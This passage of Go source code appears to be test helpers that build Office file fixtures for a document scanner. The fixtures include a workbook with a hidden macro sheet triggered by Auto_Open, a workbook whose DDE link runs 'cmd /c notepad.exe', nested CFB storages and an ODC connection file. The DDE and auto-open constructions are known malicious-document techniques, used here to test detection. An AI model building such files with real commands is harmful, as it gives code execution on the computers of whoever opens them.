			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
			`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>` +
			`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>` +
			`<Override PartName="/xl/` + dir + `/sheet1.xml" ContentType="application/vnd.ms-excel.` + map[bool]string{true: "intlmacrosheet", false: "macrosheet"}[dir == "intlMacrosheets"] + `+xml"/></Types>`)},
		file{"_rels/.rels", []byte(xmlHead + `<Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + officeRel + `/officeDocument" Target="xl/workbook.xml"/></Relationships>`)},
		file{"xl/workbook.xml", []byte(xmlHead + `<workbook ` + ns + `><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" state="hidden" r:id="rId2"/></sheets>` +
			`<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>`)},
		file{"xl/_rels/workbook.xml.rels", []byte(xmlHead + `<Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + officeRel + `/worksheet" Target="worksheets/sheet1.xml"/>` +
			`<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/` + map[bool]string{true: "xlIntlMacrosheet", false: "xlMacrosheet"}[dir == "intlMacrosheets"] + `" Target="` + dir + `/sheet1.xml"/></Relationships>`)},
		file{"xl/worksheets/sheet1.xml", []byte(xmlHead + `<worksheet ` + ns + `><sheetData/></worksheet>`)},
		file{"xl/" + dir + "/sheet1.xml", []byte(xmlHead + `<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">` + cells + `</row></sheetData></xm:macrosheet>`)},
	)
}

// xlsxDDE is a workbook with an external link part holding a ddeLink.
func xlsxDDE() []byte {
	rels := xmlHead + `<Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + officeRel + `/officeDocument" Target="xl/workbook.xml"/></Relationships>`
	return zipOf(
		file{"[Content_Types].xml", []byte(xmlHead + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
			`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>` +
			`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>` +
			`<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>`)},
		file{"_rels/.rels", []byte(rels)},
		file{"xl/workbook.xml", []byte(xmlHead + `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="` + officeRel + `"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>` +
			`<externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>`)},
		file{"xl/_rels/workbook.xml.rels", []byte(xmlHead + `<Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + officeRel + `/worksheet" Target="worksheets/sheet1.xml"/>` +
			`<Relationship Id="rId2" Type="` + officeRel + `/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`)},
		file{"xl/worksheets/sheet1.xml", []byte(xmlHead + `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>[1]!'/c notepad.exe'</f><v>0</v></c></row></sheetData></worksheet>`)},
		file{"xl/externalLinks/externalLink1.xml", []byte(xmlHead + `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink xmlns:r="` + officeRel +
			`" ddeService="cmd" ddeTopic="/c notepad.exe"><ddeItems><ddeItem name="_" advise="1"/></ddeItems></ddeLink></externalLink>`)},
	)
}

// nestedStorages appends to entries n storages each inside the one
// before, the last holding a stream.
func nestedStorages(entries []f.CFBEntry, n int) []f.CFBEntry {
	parent := -1
	for i := range n {
		entries = append(entries, f.CFBEntry{Name: fmt.Sprintf("S%d", i), Storage: true, Parent: parent})
		parent = len(entries) - 1
	}
	return append(entries, f.CFBEntry{Name: "Data", Parent: parent, Data: []byte("nested")})
}

// odcFile is an Office Data Connection file as Excel saves one: an HTML
// page whose <xml> block holds the connection.
func odcFile(conn string) []byte {
	return []byte(`<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns="http://www.w3.org/TR/REC-html40">` + "\r\n" +
		`<head><meta http-equiv=Content-Type content="text/x-ms-odc; charset=utf-8"><meta name=ProgId content=ODC.Table><meta name=SourceType content=OLEDB>` + "\r\n" +
		`<xml id=docprops><o:DocumentProperties xmlns:o="urn:schemas-microsoft-com:office:office"><o:Name>Sales</o:Name></o:DocumentProperties></xml>` + "\r\n" +
		`<xml id=msodc><odc:OfficeDataConnection xmlns:odc="urn:schemas-microsoft-com:office:odc" xmlns="http://www.w3.org/TR/REC-html40"><odc:Connection odc:Type="OLEDB">` +
		`<odc:ConnectionString>` + strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(conn) + `</odc:ConnectionString><odc:CommandType>Table</odc:CommandType><odc:CommandText>&quot;Sales&quot;.&quot;dbo&quot;.&quot;Orders&quot;</odc:CommandText>` +
		`</odc:Connection></odc:OfficeDataConnection></xml></head><body></body></html>` + "\r\n")
}
